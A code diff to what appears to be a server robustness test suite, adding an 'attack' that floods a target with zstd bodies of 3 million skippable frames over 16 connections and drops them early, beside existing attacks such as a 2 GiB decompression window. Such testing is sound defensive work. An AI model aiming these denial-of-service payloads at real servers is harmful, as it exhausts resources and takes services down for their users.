@@ -154,6 +154,13 @@ async def zstd_of_empty_frames(target: Target) -> None:
 
 
 @attack()
+async def empty_frames_of_clients_that_vanish(target: Target) -> None:
+    """Send zstd bodies of 3 million skippable frames over 16 connections, and disconnect before their end."""
+    body = b"\x50\x2a\x4d\x18\0\0\0\0" * 3_000_000
+    await asyncio.gather(*(post(target, body, _ZSTD, f"content-type: {JSON}", seconds=3) for _ in range(16)))
+
+
+@attack()
 async def zstd_with_a_huge_window(target: Target) -> None:
     """Send zstd bodies that ask for a window of 2 GiB."""
     parameters = zstandard.ZstdCompressionParameters(window_log=31, compression_level=3, enable_ldm=True)
